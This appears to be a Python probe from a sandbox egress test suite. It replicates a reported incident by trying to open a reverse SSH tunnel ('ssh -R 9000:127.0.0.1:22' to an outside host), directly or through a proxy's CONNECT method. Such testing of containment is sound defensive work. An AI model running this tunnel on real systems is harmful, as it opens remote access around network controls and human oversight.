"""Open a reverse SSH tunnel, as in the paper's incident: by a client of our own, and by OpenSSH's where there is one.

With "proxy", through the egress proxy's CONNECT.
"""

import os
import socket
import subprocess

from attack import PARAMETERS, Refused, attempt

HELLO = b"SSH-2.0-OpenSSH_9.2\r\n"
host, port, proxy = PARAMETERS["host"], PARAMETERS["port"], PARAMETERS.get("proxy")


def greet():
    with socket.create_connection(("127.0.0.1", proxy) if proxy else (host, port), timeout=3) as client:
        if proxy:
            client.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            answer = client.recv(1000)
            if b" 200 " not in answer.partition(b"\r\n")[0]:
                raise Refused(answer.partition(b"\r\n")[0].decode())
        client.sendall(HELLO)
        banner = client.recv(1000)
        if not banner:
            raise Refused("cut before the server's greeting")
        return banner


def openssh():
    options = "-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3"
    command = ["ssh", *options.split(), "-N", "-R", "9000:127.0.0.1:22", "-p", str(port), f"agent@{host}"]
    result = subprocess.run(command, capture_output=True, text=True, timeout=8)
    if "Connection refused" in result.stderr:
        raise Refused(result.stderr.strip())
    return result.stderr


attempt("a client of our own", greet)
if not proxy and os.path.exists("/usr/bin/ssh"):
    attempt("ssh -R", openssh)
